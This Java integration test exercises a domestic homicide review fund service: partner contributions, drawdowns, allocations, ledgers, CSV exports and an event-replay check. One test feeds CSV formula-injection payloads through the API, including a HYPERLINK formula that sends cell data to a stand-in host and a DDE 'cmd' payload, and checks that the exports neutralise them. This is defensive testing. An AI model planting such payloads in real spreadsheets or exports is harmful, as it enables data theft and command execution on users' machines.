package org.saferboard.standalone;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.mongodb.client.MongoDatabase;
import java.io.IOException;
import java.io.StringReader;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.axonframework.config.EventProcessingConfiguration;
import org.axonframework.eventhandling.TrackingEventProcessor;
import org.axonframework.serialization.SimpleSerializedType;
import org.axonframework.serialization.upcasting.event.EventUpcaster;
import org.axonframework.serialization.upcasting.event.IntermediateEventRepresentation;
import org.axonframework.serialization.upcasting.event.SingleEventUpcaster;
import org.bson.Document;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.saferboard.api.dhr.events.ContributionReceived;
import org.saferboard.query.dhr.DHRFundLedgerProjection;
import org.saferboard.query.dhr.ReviewViewProjection;
import org.saferboard.testing.Http;
import org.saferboard.testing.MutableClock;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.context.TestConfiguration;
import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.Import;

/**
 * The seed's DHR fund over the wire: the 2015-16 contributions agreed on 28 January 2015 (minute
 * 7(c)), a tenth of them called in and paid, the £3,000 allocated to the learning event regarding a
 * homicide in 2014 (minute 7(b)), spent in part and the rest released, the year closed; then the
 * ledgers rebuilt by a replay of events, some stored under a former name and read through an
 * upcaster, and compared with the live ones to the penny. Snapshots are taken
 * every 5 fund events, so later commands load the fund from one.
 */
@SpringBootTest(classes = StandaloneApplication.class, webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
        properties = {"saferboard.read-after.timeout=PT5S", "saferboard.snapshots.fund-threshold=5"})
@Import({DatedClock.class, StandaloneDHRIT.RenamedEvent.class})
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class StandaloneDHRIT extends StandaloneOverHttp {

    private static final String FUND = "/api/dhr-funds/llr-dhr-fund";
    private static final String PROBLEM_JSON = "application/problem+json";
    private static final List<String> PARTNERS = List.of("Leicestershire County Council", "Leicestershire Police",
            "Rutland County Council", "Blaby District Council", "Charnwood Borough Council", "Harborough District Council",
            "Hinckley and Bosworth Borough Council", "Melton Borough Council", "North West Leicestershire District Council",
            "Oadby and Wigston Borough Council");
    private static final List<String> AGREED = List.of("30000.00", "16000.00", "2500.00", "2500.00", "2500.00", "2500.00",
            "2500.00", "2500.00", "2500.00", "2500.00");
    private static final List<String> TENTH = List.of("3000.00", "1600.00", "250.00", "250.00", "250.00", "250.00", "250.00",
            "250.00", "250.00", "250.00");

    @Autowired
    MutableClock clock;

    @Autowired
    EventProcessingConfiguration processing;

    @Autowired
    MongoDatabase database;

    private Http http;
    private String outstandingBeforeRutlandPaid;

    private void on(String instant) {
        clock.set(Instant.parse(instant));
    }

    private Http.Response accepted(Http.Response response) {
        assertThat(response.status()).as(response.body().toString()).isBetween(200, 201);
        return response;
    }

    @BeforeAll
    void fundYear2015To16() {
        http = new Http(port);
        on("2015-01-28T16:00:00Z");
        accepted(http.post("/api/reviews", """
                {"reviewId":"homicide-2014","caseReference":"LR-LE-2014-01","pseudonym":"Case A","dateOfDeath":"2014-05-02",
                 "notifiedOn":"2014-05-09","notifyingAgency":"Leicestershire Police","area":"Hinckley and Bosworth"}"""));
        accepted(http.post("/api/reviews/homicide-2014/decision", """
                {"holdReview":false,"rationale":"Did not meet the criteria for a domestic homicide review but had domestic abuse links",
                 "decidedOn":"2014-06-05"}"""));
        accepted(http.post("/api/dhr-funds", """
                {"fundId":"llr-dhr-fund","name":"Leicestershire and Rutland DHR fund","openedOn":"2015-01-28","openingBalance":"0.00"}"""));
        StringBuilder contributions = new StringBuilder();
        for (int i = 0; i < PARTNERS.size(); i++) {
            contributions.append(i == 0 ? "" : ",").append("{\"partner\":\"%s\",\"amount\":\"%s\"}".formatted(PARTNERS.get(i), AGREED.get(i)));
        }
        accepted(http.put(FUND + "/contributions/2015-16", """
                {"contributions":[%s],"resolutionReference":"LSCSB 28 January 2015, minute 7(c)","agreedOn":"2015-01-28"}"""
                .formatted(contributions)));

        on("2015-06-18T12:00:00Z");
        accepted(http.post(FUND + "/drawdowns", """
                {"drawdownId":"call-2015-1","financialYear":"2015-16","total":"6600.00","reason":"Learning event and two reviews",
                 "drawnOn":"2015-06-01"}"""));
        for (int i = 0; i < PARTNERS.size(); i++) {
            if (PARTNERS.get(i).equals("Rutland County Council")) {
                continue;
            }
            accepted(http.post(FUND + "/receipts", """
                    {"receiptId":"receipt-%d","financialYear":"2015-16","partner":"%s","amount":"%s","receivedOn":"2015-06-15",
                     "reference":"Remittance %d"}""".formatted(i, PARTNERS.get(i), TENTH.get(i), 4400 + i)));
        }
        Http.Response beforeRutland = http.get(FUND + "/contributions/2015-16?readAfter=llr-dhr-fund@12");
        outstandingBeforeRutlandPaid = beforeRutland.body().get("totals").get("outstanding").asText();
        accepted(http.post(FUND + "/receipts", """
                {"receiptId":"receipt-rutland","financialYear":"2015-16","partner":"Rutland County Council","amount":"250.00",
                 "receivedOn":"2015-06-17","reference":"Remittance 4500"}"""));
        accepted(http.post(FUND + "/allocations", """
                {"allocationId":"learning-event-2014","amount":"3000.00","purpose":"LEARNING_EVENT","reviewId":"homicide-2014",
                 "description":"Learning event regarding a homicide in 2014",
                 "resolutionReference":"LSCSB 28 January 2015, minute 7(b)","allocatedOn":"2015-06-18"}"""));

        on("2015-09-30T12:00:00Z");
        accepted(http.post("/api/reviews/homicide-2014/learning-events", """
                {"description":"Multi-agency learning event on information sharing","heldOn":"2015-07-15"}"""));
        accepted(http.post(FUND + "/allocations/learning-event-2014/expenditure", """
                {"expenditureId":"venue-2015-07","amount":"2400.00","description":"Venue and facilitator","reference":"Invoice 2015-118",
                 "spentOn":"2015-07-20"}"""));
        accepted(http.post(FUND + "/allocations/learning-event-2014/release", """
                {"reason":"Event held under budget","releasedOn":"2015-09-30"}"""));

        on("2016-05-03T12:00:00Z");
        accepted(http.post(FUND + "/years/2014-15/close", "{\"closedOn\":\"2016-05-03\"}"));
        Http.Response lastWrite = accepted(http.post(FUND + "/years/2015-16/close", "{\"closedOn\":\"2016-05-03\"}"));
        assertThat(http.get(FUND + "/ledger?readAfter=" + lastWrite.body().get("readAfter").asText()).status()).isEqualTo(200);
        assertThat(http.get("/api/reviews/homicide-2014?readAfter=homicide-2014@3").status()).isEqualTo(200);
    }

    @Test
    void contributionLedgerShowsEveryPartnerAndTotalsThatAddUp() {
        JsonNode ledger = http.get(FUND + "/contributions/2015-16").body();

        assertThat(ledger.get("resolutionReference").asText()).isEqualTo("LSCSB 28 January 2015, minute 7(c)");
        assertThat(ledger.get("yearClosed").asBoolean()).isTrue();
        List<String> lines = new ArrayList<>();
        ledger.get("partners").forEach(line -> lines.add(String.join("|", line.get("partner").asText(), line.get("agreed").asText(),
                line.get("drawnDown").asText(), line.get("received").asText(), line.get("outstanding").asText(),
                line.get("notYetDrawnDown").asText())));
        List<String> expected = new ArrayList<>();
        for (int i = 0; i < PARTNERS.size(); i++) {
            String notYetDrawn = i == 0 ? "27000.00" : i == 1 ? "14400.00" : "2250.00";
            expected.add(String.join("|", PARTNERS.get(i), AGREED.get(i), TENTH.get(i), TENTH.get(i), "0.00", notYetDrawn));
        }
        assertThat(lines).containsExactlyElementsOf(expected);
        JsonNode totals = ledger.get("totals");
        assertThat(List.of(totals.get("agreed").asText(), totals.get("drawnDown").asText(), totals.get("received").asText(),
                totals.get("outstanding").asText(), totals.get("notYetDrawnDown").asText()))
                .containsExactly("66000.00", "6600.00", "6600.00", "0.00", "59400.00");
        assertThat(outstandingBeforeRutlandPaid).as("before Rutland's payment arrived").isEqualTo("250.00");
    }

    @Test
    void fundLedgerRunsTheBalancesThroughTheYear() {
        JsonNode ledger = http.get(FUND + "/ledger").body();

        List<String> rows = new ArrayList<>();
        ledger.get("movements").forEach(movement -> rows.add(String.join("|", movement.get("date").asText(),
                movement.get("kind").asText(), movement.get("after").get("balance").asText(),
                movement.get("after").get("committed").asText(), movement.get("after").get("available").asText())));
        assertThat(rows).hasSize(1 + PARTNERS.size() + 3);
        assertThat(rows.get(0)).isEqualTo("2015-01-28|OPENING_BALANCE|0.00|0.00|0.00");
        assertThat(rows.get(9)).as("the nine payments of 15 June").isEqualTo("2015-06-15|CONTRIBUTION_RECEIVED|6350.00|0.00|6350.00");
        assertThat(rows.subList(10, rows.size())).containsExactly(
                "2015-06-17|CONTRIBUTION_RECEIVED|6600.00|0.00|6600.00",
                "2015-06-18|ALLOCATION|6600.00|3000.00|3600.00",
                "2015-07-20|EXPENDITURE|4200.00|600.00|3600.00",
                "2015-09-30|RELEASE|4200.00|0.00|4200.00");
        assertThat(ledger.get("totalIn").asText()).isEqualTo("6600.00");
        assertThat(ledger.get("totalOut").asText()).isEqualTo("2400.00");
        assertThat(ledger.get("closedYears")).extracting(year -> year.get("financialYear").asText() + " "
                        + year.get("availableCarriedForward").asText() + " " + year.get("unspentAllocationsCarriedForward").asText())
                .containsExactly("2014-15 0.00 0.00", "2015-16 4200.00 0.00");
        JsonNode allocation = ledger.get("movements").get(11);
        assertThat(allocation.get("reference").asText()).isEqualTo("LSCSB 28 January 2015, minute 7(b)");
        assertThat(allocation.get("committedChange").asText()).isEqualTo("3000.00");

        JsonNode year = http.get(FUND + "/ledger?year=2016-17").body();
        assertThat(year.get("broughtForward").get("available").asText()).isEqualTo("4200.00");
        assertThat(year.get("movements")).isEmpty();
    }

    @Test
    void allocationsShowSpentReleasedAndRemaining() {
        JsonNode allocations = http.get(FUND + "/allocations").body();

        JsonNode learning = allocations.get("allocations").get(0);
        assertThat(List.of(learning.get("allocationId").asText(), learning.get("purpose").asText(), learning.get("amount").asText(),
                learning.get("spent").asText(), learning.get("released").asText(), learning.get("remaining").asText(),
                learning.get("status").asText()))
                .containsExactly("learning-event-2014", "LEARNING_EVENT", "3000.00", "2400.00", "600.00", "0.00", "RELEASED");
        assertThat(learning.get("expenditure").get(0).get("reference").asText()).isEqualTo("Invoice 2015-118");
    }

    @Test
    void partnersWhoseNamesAPathCannotCarryHaveTheirOwnStatementsAndNoCsvCellRunsAsAFormula() throws IOException {
        String police = "Police/OPCC";
        String joint = "Leicester;Rutland";
        String formula = "=HYPERLINK(\\\"http://example.invalid/?x=\\\"&A1,\\\"Click\\\")";
        on("2016-06-01T12:00:00Z");
        String fund = "/api/dhr-funds/odd-partners";
        accepted(http.post("/api/dhr-funds", """
                {"fundId":"odd-partners","name":"A fund of odd partners","openedOn":"2016-04-01","openingBalance":"0.00"}"""));
        accepted(http.put(fund + "/contributions/2016-17", """
                {"contributions":[{"partner":"%s","amount":"100.00"},{"partner":"%s","amount":"200.00"},
                 {"partner":"%s","amount":"300.00"},{"partner":"+cmd|' /C calc'!A0","amount":"400.00"}],
                 "resolutionReference":"-2+3","agreedOn":"2016-04-02"}""".formatted(police, joint, formula)));
        accepted(http.post(fund + "/drawdowns", """
                {"drawdownId":"odd-call","financialYear":"2016-17","amounts":[{"partner":"%s","amount":"100.00"}],
                 "reason":"@SUM(1+1)","drawnOn":"2016-05-01"}""".formatted(police)));
        accepted(http.post(fund + "/receipts", """
                {"receiptId":"odd-receipt","financialYear":"2016-17","partner":"%s","amount":"100.00","receivedOn":"2016-05-02",
                 "reference":"\\tRemittance"}""".formatted(police)));
        Http.Response allocated = accepted(http.post(fund + "/allocations", """
                {"allocationId":"odd-allocation","amount":"50.00","purpose":"OTHER","description":"@SUM(1+1)",
                 "resolutionReference":"-2+3","allocatedOn":"2016-05-03"}"""));

        JsonNode policeStatement = http.get(fund + "/partner-statement?partner=Police%2FOPCC&readAfter="
                + allocated.body().get("readAfter").asText()).body();
        assertThat(policeStatement.get("partner").asText()).isEqualTo(police);
        assertThat(policeStatement.toString()).contains("100.00");
        Http.Response jointStatement = http.get(fund + "/partner-statement?partner=Leicester%3BRutland");
        assertThat(jointStatement.status()).isEqualTo(200);
        assertThat(jointStatement.body().get("partner").asText()).isEqualTo(joint);
        assertThat(http.get(fund + "/partner-statement?partner=Leicester").status()).isEqualTo(404);

        List<String> contributionCells = new ArrayList<>();
        parse(http.get(fund + "/contributions/2016-17.csv")).forEach(record -> contributionCells.addAll(record.toList()));
        assertThat(contributionCells).contains("'=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Click\")", "'+cmd|' /C calc'!A0",
                police, joint);
        List<String> ledgerCells = new ArrayList<>();
        parse(http.get(fund + "/ledger.csv")).forEach(record -> ledgerCells.addAll(record.toList()));
        assertThat(ledgerCells).contains("'@SUM(1+1)", "'\tRemittance", "'-2+3");
        assertThat(ledgerCells).noneMatch(cell -> !cell.isEmpty() && "=+@\t".indexOf(cell.charAt(0)) >= 0);
    }

    @Test
    void partnerStatementFollowsWhatWasAgreedCalledInAndPaid() {
        JsonNode statement = http.get(FUND + "/partner-statement?partner=Rutland%20County%20Council").body();

        assertThat(statement.get("entries")).extracting(entry -> entry.get("date").asText() + " " + entry.get("kind").asText() + " "
                        + entry.get("amount").asText() + " owing " + entry.get("outstandingAfter").asText())
                .containsExactly("2015-01-28 AGREED 2500.00 owing 0.00", "2015-06-01 DRAWN_DOWN 250.00 owing 250.00",
                        "2015-06-17 RECEIVED 250.00 owing 0.00");
        assertThat(statement.get("totalOutstanding").asText()).isEqualTo("0.00");
        assertThat(http.get(FUND + "/partner-statement?partner=Leicester%20City%20Council").status()).isEqualTo(404);
    }

    @Test
    void theLearningEventCaseShowsItsMoney() {
        JsonNode review = http.get("/api/reviews/homicide-2014").body();

        assertThat(review.get("stage").asText()).isEqualTo("NO_REVIEW");
        assertThat(review.get("reportClock").get("status").asText()).isEqualTo("NOT_APPLICABLE");
        assertThat(review.get("learningEvents").get(0).get("heldOn").asText()).isEqualTo("2015-07-15");
        assertThat(review.get("funding").get(0).get("allocationId").asText()).isEqualTo("learning-event-2014");
        assertThat(review.get("totalAllocated").asText()).isEqualTo("3000.00");
        assertThat(review.get("totalSpent").asText()).isEqualTo("2400.00");
    }

    @Test
    void everyLedgerDownloadsAsCsvWithTotalsThatMatch() throws IOException {
        Http.Response contributions = http.get(FUND + "/contributions/2015-16.csv");
        assertThat(contributions.status()).isEqualTo(200);
        assertThat(contributions.contentType()).startsWith("text/csv");
        assertThat(contributions.header("Content-Disposition")).contains("llr-dhr-fund-contributions-2015-16.csv");
        List<CSVRecord> rows = parse(contributions);
        assertThat(rows).hasSize(PARTNERS.size() + 1);
        assertThat(rows.get(1).get("Partner")).isEqualTo("Leicestershire Police");
        assertThat(rows.get(1).get("Agreed")).isEqualTo("16000.00");
        CSVRecord total = rows.get(PARTNERS.size());
        assertThat(List.of(total.get("Partner"), total.get("Agreed"), total.get("Received"), total.get("Not yet drawn down")))
                .containsExactly("Total", "66000.00", "6600.00", "59400.00");

        List<CSVRecord> ledger = parse(http.get(FUND + "/ledger.csv"));
        assertThat(ledger.get(ledger.size() - 1).get("Available")).isEqualTo("4200.00");
        assertThat(ledger.get(ledger.size() - 1).get("Money out")).isEqualTo("2400.00");

        List<CSVRecord> allocations = parse(http.get(FUND + "/allocations.csv"));
        assertThat(allocations.get(0).get("Resolution")).isEqualTo("LSCSB 28 January 2015, minute 7(b)");
        assertThat(allocations.get(1).get("Released")).isEqualTo("600.00");

        List<CSVRecord> statement = parse(http.get(FUND + "/partner-statement.csv?partner=Leicestershire%20Police"));
        assertThat(statement).extracting(row -> row.get("Entry") + " " + row.get("Amount"))
                .containsExactly("AGREED 16000.00", "DRAWN_DOWN 1600.00", "RECEIVED 1600.00");
    }

    @Test
    void aReviewShowsItsClocksPanelAndActionPlans() {
        on("2015-11-01T10:00:00Z");
        accepted(http.post("/api/reviews", """
                {"reviewId":"dhr-mary","caseReference":"LR-DHR-2015-01","pseudonym":"Mary","dateOfDeath":"2015-06-01",
                 "notifiedOn":"2015-06-10","notifyingAgency":"Leicestershire Police","area":"Charnwood"}"""));
        accepted(http.post("/api/reviews/dhr-mary/decision", """
                {"holdReview":true,"rationale":"Meets the statutory criteria","decidedOn":"2015-07-01","expectedVersion":1}"""));
        accepted(http.put("/api/reviews/dhr-mary/chair", "{\"chairName\":\"Independent chair\",\"appointedOn\":\"2015-07-20\"}"));
        accepted(http.post("/api/reviews/dhr-mary/panel-members", """
                {"name":"Detective Inspector, Major Crime","role":"Police representative","agency":"Leicestershire Police"}"""));
        accepted(http.post("/api/reviews/dhr-mary/pause", "{\"reason\":\"Awaiting the criminal trial\",\"pausedOn\":\"2015-08-01\"}"));
        accepted(http.post("/api/reviews/dhr-mary/resume", "{\"resumedOn\":\"2015-10-01\"}"));
        Http.Response raised = accepted(http.post("/api/reviews/dhr-mary/actions", """
                {"actionId":"mary-dash-training","plan":"SINGLE_AGENCY","title":"Confirm all relevant staff have received DASH training",
                 "ownerName":"Service manager","leadAgency":"Swanswell","dueDate":"2015-12-10"}"""));
        assertThat(raised.body().get("readAfter").asText()).isEqualTo("mary-dash-training@1");
        assertThat(raised.body().get("sourceReadAfter").asText()).isEqualTo("dhr-mary@7");
        assertThat(http.get("/api/reviews/dhr-mary?readAfter=" + raised.body().get("sourceReadAfter").asText()).body()
                .get("actions").get(0).get("actionId").asText()).isEqualTo("mary-dash-training");
        accepted(http.post("/api/reviews", """
                {"reviewId":"dhr-fn","caseReference":"LR-DHR-2015-02","pseudonym":"FN","dateOfDeath":"2015-08-20",
                 "notifiedOn":"2015-09-01","notifyingAgency":"Leicestershire Police","area":"Melton"}"""));

        JsonNode mary = http.get("/api/reviews/dhr-mary?readAfter=dhr-mary@7").body();
        assertThat(mary.get("stage").asText()).isEqualTo("IN_REVIEW");
        assertThat(clock(mary.get("decisionClock"))).isEqualTo("MET due 2015-07-10 paused 0");
        assertThat(clock(mary.get("reportClock"))).as("six months from the decision, plus the 61 days paused")
                .isEqualTo("RUNNING due 2016-03-02 paused 61");
        assertThat(mary.get("panel").get(0).get("agency").asText()).isEqualTo("Leicestershire Police");
        assertThat(mary.get("pauses").get(0).get("resumedOn").asText()).isEqualTo("2015-10-01");
        await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> assertThat(http.get("/api/reviews/dhr-mary").body()
                .get("actions").get(0).get("status").asText()).isEqualTo("OPEN"));
        JsonNode action = http.get("/api/actions/mary-dash-training").body();
        assertThat(action.get("source").get("kind").asText()).isEqualTo("DHR");
        assertThat(action.get("source").get("reference").asText())
                .isEqualTo("DHR 'Mary' (LR-DHR-2015-01), single-agency action plan");
        assertThat(action.get("owningAgency").asText()).isEqualTo("Swanswell");
        assertThat(action.get("source").get("reviewId").asText()).isEqualTo("dhr-mary");
        assertThat(http.get("/api/actions?review=dhr-mary").body().get("actions")).extracting(found -> found.get("actionId").asText())
                .containsExactly("mary-dash-training");

        JsonNode overdue = http.get("/api/reviews?overdue=true&readAfter=dhr-fn@1").body();
        assertThat(overdue.get("reviews")).extracting(review -> review.get("pseudonym").asText() + " "
                        + review.get("decisionClock").get("status").asText() + " " + review.get("decisionClock").get("dueOn").asText())
                .containsExactly("FN OVERDUE 2015-10-01");

        Http.Response again = http.post("/api/reviews/dhr-mary/decision", "{\"holdReview\":false,\"rationale\":\"Changed\"}");
        assertThat(again.status()).isEqualTo(409);
        assertThat(again.contentType()).startsWith(PROBLEM_JSON);
        assertThat(again.body().get("code").asText()).isEqualTo("review-already-decided");
        Http.Response stale = http.post("/api/reviews/dhr-mary/pause", """
                {"reason":"Inquest","pausedOn":"2015-10-20","expectedVersion":3}""");
        assertThat(stale.status()).isEqualTo(409);
        assertThat(http.post("/api/reviews/no-such-review/decision", "{\"holdReview\":true,\"rationale\":\"x\"}").status())
                .isEqualTo(404);
    }

    private static String clock(JsonNode clock) {
        return clock.get("status").asText() + " due " + clock.get("dueOn").asText() + " paused " + clock.get("pausedDays").asLong();
    }

    @Test
    void refusalsAreProblemsThatSayWhatToDo() {
        on("2016-05-03T12:00:00Z");
        Http.Response overAllocation = http.post(FUND + "/allocations", """
                {"amount":"4200.01","purpose":"OTHER","description":"Legal advice","resolutionReference":"LSCSB 10 December 2015, minute 60",
                 "allocatedOn":"2016-05-03"}""");
        assertThat(overAllocation.status()).isEqualTo(409);
        assertThat(overAllocation.contentType()).startsWith(PROBLEM_JSON);
        assertThat(overAllocation.body().get("code").asText()).isEqualTo("allocation-exceeds-balance");
        assertThat(overAllocation.body().get("detail").asText())
                .isEqualTo("The fund holds £4200.00 not yet allocated; £4200.01 cannot be allocated from it.");

        Http.Response inClosedYear = http.post(FUND + "/receipts", """
                {"financialYear":"2015-16","partner":"Leicestershire Police","amount":"1.00","receivedOn":"2016-03-31"}""");
        assertThat(inClosedYear.status()).isEqualTo(409);
        assertThat(inClosedYear.body().get("code").asText()).isEqualTo("financial-year-closed");

        Http.Response notPounds = http.post(FUND + "/allocations", """
                {"amount":"3,000","purpose":"OTHER","description":"Legal advice","resolutionReference":"minute 60"}""");
        assertThat(notPounds.status()).isEqualTo(400);
        assertThat(notPounds.body().toString()).contains("amount");

        Http.Response incomplete = http.post("/api/reviews", "{\"pseudonym\":\"Mary\"}");
        assertThat(incomplete.status()).isEqualTo(400);
        assertThat(incomplete.body().get("errors").toString()).contains("caseReference", "dateOfDeath", "notifiedOn", "area");

        Http.Response unknownFund = http.get("/api/dhr-funds/no-such-fund/ledger");
        assertThat(unknownFund.status()).isEqualTo(404);
        assertThat(http.get(FUND + "/contributions/2015-17").status()).isEqualTo(400);
        assertThat(http.get(FUND + "/contributions/2016-17").status()).isEqualTo(404);
    }

    /** What ContributionReceived is taken to have been called before a rename, and the upcaster such a rename comes with. */
    static final String FORMER_NAME = "org.saferboard.api.dhr.PartnerPaymentReceived";

    @TestConfiguration
    static class RenamedEvent {

        @Bean
        EventUpcaster formerNameOfContributionReceived() {
            return new SingleEventUpcaster() {
                @Override
                protected boolean canUpcast(IntermediateEventRepresentation event) {
                    return event.getType().getName().equals(FORMER_NAME);
                }

                @Override
                protected IntermediateEventRepresentation doUpcast(IntermediateEventRepresentation event) {
                    return event.upcastPayload(new SimpleSerializedType(ContributionReceived.class.getName(),
                            event.getType().getRevision()), JsonNode.class, Function.identity());
                }
            };
        }
    }

    @Test
    void ledgersRebuiltByAReplayOfEventsStoredUnderAFormerNameEqualTheLiveOnesToThePenny() throws Exception {
        Map<String, JsonNode> live = readModels();
        // as if ContributionReceived had been renamed: its events stored under the former name, read through the upcaster
        long renamed = database.getCollection("events").updateMany(new Document("payloadType", ContributionReceived.class.getName()),
                new Document("$set", new Document("payloadType", FORMER_NAME))).getModifiedCount();
        assertThat(renamed).as("the year's receipts (and any another test added)").isGreaterThanOrEqualTo(PARTNERS.size());

        for (String group : List.of(DHRFundLedgerProjection.PROCESSING_GROUP, ReviewViewProjection.PROCESSING_GROUP)) {
            TrackingEventProcessor processor = processing.eventProcessor(group, TrackingEventProcessor.class).orElseThrow();
            processor.shutdownAsync().get();
            processor.resetTokens();
        }
        assertThat(database.getCollection("dhr_fund_ledger_v2").countDocuments()).as("the reset cleared the ledger").isZero();
        assertThat(database.getCollection("review_view").countDocuments()).isZero();
        for (String group : List.of(DHRFundLedgerProjection.PROCESSING_GROUP, ReviewViewProjection.PROCESSING_GROUP)) {
            processing.eventProcessor(group, TrackingEventProcessor.class).orElseThrow().start();
        }

        await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> assertThat(readModels()).isEqualTo(live));
    }

    private Map<String, JsonNode> readModels() {
        Map<String, JsonNode> models = new LinkedHashMap<>();
        for (String path : List.of(FUND + "/contributions/2015-16", FUND + "/ledger", FUND + "/ledger?year=2015-16",
                FUND + "/allocations", FUND + "/partner-statement?partner=Leicestershire%20County%20Council", "/api/reviews/homicide-2014")) {
            models.put(path, http.get(path).body());
        }
        return models;
    }

    private static List<CSVRecord> parse(Http.Response response) throws IOException {
        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(response.body().asText())).getRecords();
    }
}
